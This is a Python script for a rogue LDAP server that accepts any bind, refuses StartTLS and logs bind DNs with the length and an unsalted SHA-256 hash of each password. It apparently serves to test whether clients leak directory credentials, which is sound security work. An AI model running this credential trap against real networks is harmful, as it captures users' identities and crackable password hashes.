#!/usr/bin/env python3
"""A hostile LDAP server that fishes for bind credentials (a directory a pointer SCP names).

Usage: ldap_capture.py LOGFILE HOST PORT [PORT ...]

Logs one line per event to LOGFILE, never the password itself:
  CONNECT port=389
  BIND dn=<dn> password=absent|present len=<n> sha256=<hex>
  STARTTLS refused
  SEARCH base=<dn>
  NON-LDAP port=636 first-byte=0x16          (a TLS ClientHello on a plain port, say)
Answers: bindResponse success to any bind (so a client would go on), searchResDone success
with no entries to any search, and an error to the StartTLS extended operation.
Python 3 standard library only; a minimal BER reader (X.690) for LDAPv3 (RFC 4511).
"""
import hashlib
import socket
import sys
import threading

MAX_MESSAGE = 64 * 1024
STARTTLS_OID = b"1.3.6.1.4.1.1466.20037"
lock = threading.Lock()


def log(path, line):
    with lock, open(path, "a", encoding="utf-8") as f:
        f.write(line + "\n")


def read_length(buf, i):
    """Returns (length, next index) of the BER length at buf[i]."""
    first = buf[i]
    i += 1
    if first < 0x80:
        return first, i
    n = first & 0x7F
    if n == 0 or n > 4 or i + n > len(buf):
        raise ValueError("unsupported length")
    return int.from_bytes(buf[i:i + n], "big"), i + n


def read_tlv(buf, i):
    """Returns (tag, value bytes, next index)."""
    if i >= len(buf):
        raise ValueError("truncated")
    tag = buf[i]
    length, j = read_length(buf, i + 1)
    if j + length > len(buf):
        raise ValueError("truncated")
    return tag, buf[j:j + length], j + length


def children(value):
    out, i = [], 0
    while i < len(value):
        tag, v, i = read_tlv(value, i)
        out.append((tag, v))
    return out


def encode_length(n):
    if n < 0x80:
        return bytes([n])
    b = n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes([0x80 | len(b)]) + b


def tlv(tag, value):
    return bytes([tag]) + encode_length(len(value)) + value


def integer(n):
    return tlv(0x02, n.to_bytes(max(1, (n.bit_length() + 8) // 8), "big", signed=True))


def result(app_tag, msgid, code, message=b""):
    op = tlv(0x0A, bytes([code])) + tlv(0x04, b"") + tlv(0x04, message)
    return tlv(0x30, integer(msgid) + tlv(app_tag, op))


def recv_message(conn):
    """One whole LDAPMessage, or None at the end."""
    head = b""
    while len(head) < 2:
        chunk = conn.recv(2 - len(head))
        if not chunk:
            return None
        head += chunk
    if head[0] != 0x30:
        return head  # not LDAP: the caller logs it
    need = 0
    if head[1] & 0x80:
        n = head[1] & 0x7F
        if n == 0 or n > 4:
            raise ValueError("unsupported length")
        extra = b""
        while len(extra) < n:
            chunk = conn.recv(n - len(extra))
            if not chunk:
                return None
            extra += chunk
        head += extra
        need = int.from_bytes(extra, "big")
    else:
        need = head[1]
    if need > MAX_MESSAGE:
        raise ValueError("message too large")
    body = b""
    while len(body) < need:
        chunk = conn.recv(need - len(body))
        if not chunk:
            return None
        body += chunk
    return head + body


def serve(conn, port, path):
    conn.settimeout(10)
    log(path, f"CONNECT port={port}")
    try:
        while True:
            msg = recv_message(conn)
            if msg is None:
                return
            if msg[0] != 0x30:
                log(path, f"NON-LDAP port={port} first-byte=0x{msg[0]:02x}")
                return
            _, seq, _ = read_tlv(msg, 0)
            parts = children(seq)
            msgid = int.from_bytes(parts[0][1], "big", signed=True)
            tag, op = parts[1]
            if tag == 0x60:  # BindRequest: version, name, authentication
                fields = children(op)
                dn = fields[1][1].decode("utf-8", "replace")
                auth_tag, auth = fields[2]
                if auth_tag == 0x80 and auth:
                    digest = hashlib.sha256(auth).hexdigest()
                    log(path, f"BIND dn={dn} password=present len={len(auth)} sha256={digest}")
                else:
                    log(path, f"BIND dn={dn} password=absent")
                conn.sendall(result(0x61, msgid, 0))
            elif tag == 0x63:  # SearchRequest
                base = children(op)[0][1].decode("utf-8", "replace")
                log(path, f"SEARCH base={base}")
                conn.sendall(result(0x65, msgid, 0))
            elif tag == 0x77:  # ExtendedRequest
                name = children(op)[0][1]
                if name == STARTTLS_OID:
                    log(path, "STARTTLS refused")
                    conn.sendall(result(0x78, msgid, 2, b"no TLS here"))  # protocolError
                else:
                    log(path, "EXTENDED " + name.decode("ascii", "replace"))
                    conn.sendall(result(0x78, msgid, 2))
            elif tag == 0x42:  # UnbindRequest
                return
            else:
                log(path, f"OP tag=0x{tag:02x}")
                return
    except (OSError, ValueError, IndexError) as e:
        log(path, f"CLOSED port={port} ({type(e).__name__})")
    finally:
        conn.close()


def bind(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((host, port))
    s.listen(16)
    return s


def accept_loop(s, port, path):
    while True:
        conn, _ = s.accept()
        threading.Thread(target=serve, args=(conn, port, path), daemon=True).start()


def main():
    path, host, ports = sys.argv[1], sys.argv[2], [int(p) for p in sys.argv[3:]]
    open(path, "w").close()
    sockets = [(bind(host, port), port) for port in ports]
    log(path, "READY " + " ".join(str(p) for p in ports))
    for s, port in sockets[1:]:
        threading.Thread(target=accept_loop, args=(s, port, path), daemon=True).start()
    accept_loop(*sockets[0], path)


if __name__ == "__main__":
    main()
